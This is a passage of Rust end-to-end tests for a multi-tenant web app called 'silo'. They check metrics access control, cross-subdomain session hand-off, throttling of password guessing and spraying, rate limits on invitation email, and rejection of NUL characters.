    assert_eq!(status(local.url("/metrics"), vec![]).await, 200, "the default: usable on loopback");
    assert_eq!(
        status(local.url("/metrics"), vec![("X-Forwarded-For", "203.0.113.9")]).await,
        404,
        "forwarded: not local"
    );
    local.stop().await.unwrap();

    let token = TestServer::start_with(|s| s.server.metrics_token = Some(Secret::new("s3cret-metrics")))
        .await
        .unwrap();
    assert_eq!(status(token.url("/metrics"), vec![]).await, 401);
    assert_eq!(status(token.url("/metrics"), vec![("Authorization", "Bearer wrong")]).await, 401);
    assert_eq!(status(token.url("/metrics"), vec![("Authorization", "Bearer s3cret-metrics")]).await, 200);
    token.stop().await.unwrap();

    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let bound =
        TestServer::start_with(|s| s.server.metrics_bind = Some(format!("127.0.0.1:{port}"))).await.unwrap();
    assert_eq!(status(bound.url("/metrics"), vec![]).await, 404, "not on the main listener");
    assert_eq!(status(format!("http://127.0.0.1:{port}/metrics"), vec![]).await, 200);
    assert_eq!(
        status(format!("http://127.0.0.1:{port}/healthz"), vec![]).await,
        404,
        "the metrics listener serves metrics only"
    );
    let body =
        client.get(format!("http://127.0.0.1:{port}/metrics")).send().await.unwrap().text().await.unwrap();
    assert!(body.contains("silo_build_info"));
    bound.stop().await.unwrap();
}

// 16. Workspaces on their own host, over HTTP (the browser journey is in `browser.rs`).
struct HostClient {
    client: reqwest::Client,
    port: u16,
}

impl HostClient {
    fn new(server: &TestServer) -> Self {
        let client = reqwest::Client::builder()
            .cookie_store(true)
            .redirect(reqwest::redirect::Policy::none())
            .resolve("silo.test", server.addr)
            .resolve("acme.silo.test", server.addr)
            .resolve("other.silo.test", server.addr)
            .build()
            .unwrap();
        Self { client, port: server.addr.port() }
    }

    fn url(&self, host: &str, path: &str) -> String {
        format!("http://{host}:{}{path}", self.port)
    }

    async fn get(&self, url: &str) -> reqwest::Response {
        self.client.get(url).send().await.unwrap()
    }

    async fn sign_in(&self, email: &str) {
        let page = self.get(&self.url("silo.test", "/login")).await.text().await.unwrap();
        let token = csrf_of(&page).unwrap();
        let fields = [("csrf", token.as_str()), ("email", email), ("password", PASSWORD)];
        let done = self.client.post(self.url("silo.test", "/login")).form(&fields).send().await.unwrap();
        assert_eq!(done.status(), 303);
    }

    /// Follows redirects by hand; returns the final response and the URLs passed through.
    async fn follow(&self, url: &str) -> (reqwest::Response, Vec<String>) {
        let mut url = url.to_owned();
        let mut trail = vec![url.clone()];
        loop {
            let response = self.get(&url).await;
            let Some(location) = response.headers().get("location").and_then(|l| l.to_str().ok()) else {
                return (response, trail);
            };
            url = if location.starts_with('/') {
                let origin = &url[..url[8..].find('/').map_or(url.len(), |i| i + 8)];
                format!("{origin}{location}")
            } else {
                location.to_owned()
            };
            trail.push(url.clone());
            assert!(trail.len() < 10, "redirect loop: {trail:?}");
        }
    }
}

#[tokio::test]
async fn a_workspace_host_gets_a_session_handed_over_without_shared_cookies() {
    let server = TestServer::start_listening(|s, addr| {
        s.server.base_domain = Some("silo.test".into());
        s.server.public_url = Some(format!("http://silo.test:{}", addr.port()));
    })
    .await
    .unwrap();
    owner(&server, "ada@example.com", "acme").await;
    owner(&server, "eve@example.com", "other").await;
    let ada = HostClient::new(&server);
    let workspace = ada.url("acme.silo.test", "/");

    // Signed out: the workspace host sends the browser to the main host's sign-in.
    let (page, trail) = ada.follow(&workspace).await;
    assert!(page.url().as_str().starts_with(&ada.url("silo.test", "/login?next=")), "{trail:?}");
    assert!(trail[1].starts_with(&ada.url("silo.test", "/handoff?to=acme&state=")), "{trail:?}");

    ada.sign_in("ada@example.com").await;
    let first = ada.get(&workspace).await;
    let handoff = first.headers()["location"].to_str().unwrap().to_owned();
    let issued = ada.get(&handoff).await;
    let redeem_url = issued.headers()["location"].to_str().unwrap().to_owned();
    assert!(redeem_url.starts_with(&ada.url("acme.silo.test", "/_handoff?token=hof_")), "{redeem_url}");
    let redeemed = ada.get(&redeem_url).await;
    assert_eq!(redeemed.status(), 303);
    let cookie = redeemed
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|c| c.to_str().unwrap().to_owned())
        .find(|c| c.starts_with("silo_session="))
        .unwrap();
    assert!(!cookie.to_ascii_lowercase().contains("domain="), "host-only: {cookie}");
    assert_eq!(redeemed.headers()["location"], "/w/acme/");

    // The workspace works on its host: pages, links, forms.
    let dashboard = ada.get(&workspace).await;
    assert_eq!(dashboard.status(), 200);
    let html = dashboard.text().await.unwrap();
    let token = csrf_of(&html).unwrap();
    let created = ada
        .client
        .post(ada.url("acme.silo.test", "/w/acme/projects"))
        .form(&[("csrf", token.as_str()), ("name", "Launch"), ("description", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(created.status(), 303);
    let project = ada.get(&ada.url("acme.silo.test", created.headers()["location"].to_str().unwrap())).await;
    assert_eq!(project.status(), 200);
    assert!(project.text().await.unwrap().contains("Launch"));
    assert_eq!(ada.get(&ada.url("acme.silo.test", "/members")).await.status(), 200);
    let account = ada.get(&ada.url("acme.silo.test", "/account")).await;
    assert_eq!(
        account.headers()["location"],
        ada.url("silo.test", "/account").as_str(),
        "account pages live on the main host"
    );

    // A hand-off works once, only in the browser that asked for it, only for members.
    assert_eq!(ada.get(&redeem_url).await.status(), 403, "used");
    let mallory = HostClient::new(&server);
    mallory.sign_in("eve@example.com").await;
    let planted = mallory
        .get(&ada.url("silo.test", "/handoff?to=other&state=0123456789abcdef0123456789abcdef&next=/"))
        .await;
    let planted_url = planted.headers()["location"].to_str().unwrap().to_owned();
    let victim = HostClient::new(&server);
    assert_eq!(
        victim.get(&planted_url).await.status(),
        403,
        "no state cookie: a planted hand-off is refused"
    );
    let outsider =
        mallory.get(&ada.url("silo.test", "/handoff?to=acme&state=0123456789abcdef0123456789abcdef")).await;
    assert_eq!(outsider.status(), 404, "not a member");

    // Signing out on the workspace host ends the main host's session too.
    let html = ada.get(&workspace).await.text().await.unwrap();
    let token = csrf_of(&html).unwrap();
    let out = ada
        .client
        .post(ada.url("acme.silo.test", "/logout"))
        .form(&[("csrf", token.as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(out.headers()["location"], ada.url("silo.test", "/login").as_str());
    assert_eq!(ada.get(&ada.url("silo.test", "/account")).await.status(), 303, "the family is signed out");
    server.stop().await.unwrap();
}

/// Signs in as `email` from the client address `client` (through the trusted proxy);
/// returns the response.
async fn sign_in_from(
    visitor: &silo_e2e::Visitor,
    client: &str,
    email: &str,
    password: &str,
) -> silo_e2e::Response {
    let token = visitor.csrf("/login").await.unwrap();
    let fields = [("csrf", token.as_str()), ("email", email), ("password", password)];
    let request =
        visitor.request(reqwest::Method::POST, "/login").header("X-Forwarded-For", client).form(&fields);
    visitor.send(request).await.unwrap()
}

/// Thirteen wrong passwords from one address, then a spray from twenty more, do not lock the
/// owner out: the guessers are refused, the owner's own browser signs in at once, and a new
/// browser waits at most the account's delay. The refusal links the reset.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wrong_passwords_from_elsewhere_never_lock_the_owner_out() {
    let server = TestServer::start_with(|s| {
        s.server.trusted_proxies = TrustedProxies::Hops(1);
        s.server.login_account_delay_max_seconds = 2;
    })
    .await
    .unwrap();
    server.sign_up("ada@example.com", "acme").await.unwrap();
    // Ada's own browser: it signed in before.
    let home = server.visitor();
    assert_eq!(sign_in_from(&home, "10.0.0.1", "ada@example.com", PASSWORD).await.status, 303);
    home.submit("/", "/logout", &[]).await.unwrap();

    let attacker = server.visitor();
    let mut statuses = Vec::new();
    for _ in 0..13 {
        statuses.push(sign_in_from(&attacker, "10.6.6.6", "ada@example.com", "wrong password").await.status);
    }
    assert_eq!(&statuses[..5], [401; 5], "{statuses:?}");
    assert!(statuses[5..].iter().all(|s| *s == 429), "the guesser is refused: {statuses:?}");
    let refused = sign_in_from(&attacker, "10.6.6.6", "ada@example.com", PASSWORD).await;
    assert_eq!(refused.status, 429, "even the right password, from the guesser's address");
    assert!(
        refused.body.contains("Too many sign-in attempts")
            && refused.body.contains("href=\"/password/forgot\""),
        "{}",
        refused.body
    );
    // A spray from twenty addresses: about one guess per delay gets through, not twenty.
    let mut sprayed = 0;
    for i in 0..20 {
        let status =
            sign_in_from(&attacker, &format!("10.7.0.{i}"), "ada@example.com", "wrong password").await.status;
        sprayed += usize::from(status == 401);
    }
    assert!(sprayed <= 2, "{sprayed} of 20 sprayed guesses were checked");
    // The owner in a new browser elsewhere: waits at most the delay, then signs in.
    let cafe = server.visitor();
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    let mut waited = false;
    loop {
        let answer = sign_in_from(&cafe, "10.0.0.2", "ada@example.com", PASSWORD).await;
        if answer.status == 303 {
            break;
        }
        assert_eq!(answer.status, 429, "{}", answer.body);
        let wait: u64 = answer.headers["retry-after"].to_str().unwrap().parse().unwrap();
        assert!(wait <= 2, "waits at most the account's delay, not the window: {wait}");
        assert!(std::time::Instant::now() < deadline, "the owner got in");
        waited = true;
        tokio::time::sleep(Duration::from_secs(wait)).await;
    }
    assert!(waited, "right after the spray, a new browser waits a moment");
    // The owner at home, after another spray: at once.
    for i in 0..5 {
        sign_in_from(&attacker, &format!("10.8.0.{i}"), "ada@example.com", "wrong password").await;
    }
    let signed_in = sign_in_from(&home, "10.0.0.1", "ada@example.com", PASSWORD).await;
    assert_eq!(signed_in.status, 303, "{}", signed_in.body);
    // And from the guesser's own address (one office behind one NAT): the guesser is refused,
    // the owner's browser is not.
    assert_eq!(sign_in_from(&attacker, "10.6.6.6", "ada@example.com", PASSWORD).await.status, 429);
    home.submit("/", "/logout", &[]).await.unwrap();
    assert_eq!(sign_in_from(&home, "10.6.6.6", "ada@example.com", PASSWORD).await.status, 303);
    server.stop().await.unwrap();
}

/// The password asked again (to change it, to delete the account) is throttled like a
/// sign-in: a signed-in session cannot guess it thousands of times.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_password_asked_again_is_throttled() {
    let server = TestServer::start().await.unwrap();
    let ada = server.sign_up("ada@example.com", "acme").await.unwrap();
    let mut statuses = Vec::new();
    for i in 0..8 {
        let guess = format!("guess number {i}");
        let change = [("current", guess.as_str()), ("new", "a brand new password")];
        statuses.push(ada.submit("/account", "/account/password", &change).await.unwrap().status);
    }
    assert_eq!(&statuses[..5], [303; 5], "wrong passwords are named (flash): {statuses:?}");
    assert!(statuses[5..].iter().all(|s| *s == 429), "{statuses:?}");
    let deleted =
        ada.submit("/account", "/account/delete", &[("password", "yet another guess")]).await.unwrap();
    assert_eq!(deleted.status, 429, "deleting the account asks the same throttle");
    assert!(
        deleted.body.contains("Too many wrong passwords") && deleted.body.contains("/password/forgot"),
        "{}",
        deleted.body
    );
    assert!(deleted.headers.get("retry-after").is_some());
    assert!(server.accounts.users().by_email("ada@example.com").await.is_ok(), "nothing was deleted");
    // The same browser still signs in: it is the account's known device.
    ada.submit("/", "/logout", &[]).await.unwrap();
    let again = ada
        .submit("/login", "/login", &[("email", "ada@example.com"), ("password", PASSWORD)])
        .await
        .unwrap();
    assert_eq!(again.status, 303, "{}", again.body);
    server.stop().await.unwrap();
}

/// Invitations send email, so they are bounded: a repeat to one address replaces the pending
/// one (one pending invitation, one seat), three an hour reach one address, and a workspace
/// sends a bounded number an hour — no workspace is a relay for mail to anyone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn invitations_cannot_bomb_an_address_or_relay_mail() {
    let server = TestServer::start_with(|s| s.server.invitations_per_workspace_hour = 10).await.unwrap();
    let ada = server.sign_up("ada@example.com", "acme").await.unwrap();
    let token = ada.csrf("/w/acme/members").await.unwrap();
    let invite = |email: String| {
        let (ada, token) = (&ada, token.clone());
        async move {
            ada.post(
                "/w/acme/members/invite",
                &[("csrf", token.as_str()), ("email", &email), ("role", "member")],
            )
            .await
            .unwrap();
            ada.get("/w/acme/members").await.unwrap().body
        }
    };
    for _ in 0..3 {
        assert!(invite("victim@example.com".into()).await.contains("Invitation emailed"));
    }
    let page = invite("victim@example.com".into()).await;
    assert!(page.contains("Too many invitations"), "{page}");
    let tenant = server.tenancy.tenant(&"acme".parse().unwrap()).await.unwrap();
    let pending = server.accounts.invitations().pending(tenant.id).await.unwrap();
    assert_eq!(pending.len(), 1, "a repeat replaces the pending invitation: {pending:?}");
    assert_eq!(server.accounts.outbox().list(Some("victim@example.com"), 100).await.unwrap().len(), 3);
    let mut sent = 3;
    for i in 0..20 {
        if invite(format!("person{i}@example.com")).await.contains("Invitation emailed") {
            sent += 1;
        }
    }
    assert_eq!(sent, 10, "the workspace's hour of invitations");
    server.stop().await.unwrap();
}

/// A NUL character (which no page sends, and PostgreSQL's text cannot keep) is refused at the
/// edge, in a form and in a JSON body, on either engine: 422 in words, nothing created.
#[tokio::test]
async fn a_nul_character_in_a_form_or_a_body_is_refused_and_changes_nothing() {
    let server = TestServer::start().await.unwrap();
    let visitor = server.visitor();
    let fields = [
        ("email", "eve@example.com"),
        ("name", "E\u{0}ve"),
        ("password", PASSWORD),
        ("workspace", "W\u{0}s"),
        ("slug", "eves"),
    ];
    let refused = visitor.submit("/signup", "/signup", &fields).await.unwrap();
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert!(refused.body.contains("NUL character"), "{}", refused.body);
    assert!(server.last_email("eve@example.com").await.is_err(), "no confirmation was sent");
    let api = ApiClient::new(server.addr, Some(&server.operator_token("ops@example.com").await.unwrap()));
    let (status, body) = api
        .call("POST", "/tenants", Some(serde_json::json!({ "slug": "acme", "name": "A\u{0}" })))
        .await
        .unwrap();
    assert_eq!((status, body["error"]["field"].as_str()), (422, Some("name")), "{body}");
    assert_eq!(api.call("GET", "/tenants/acme", None).await.unwrap().0, 404, "nothing was created");
    server.stop().await.unwrap();
}
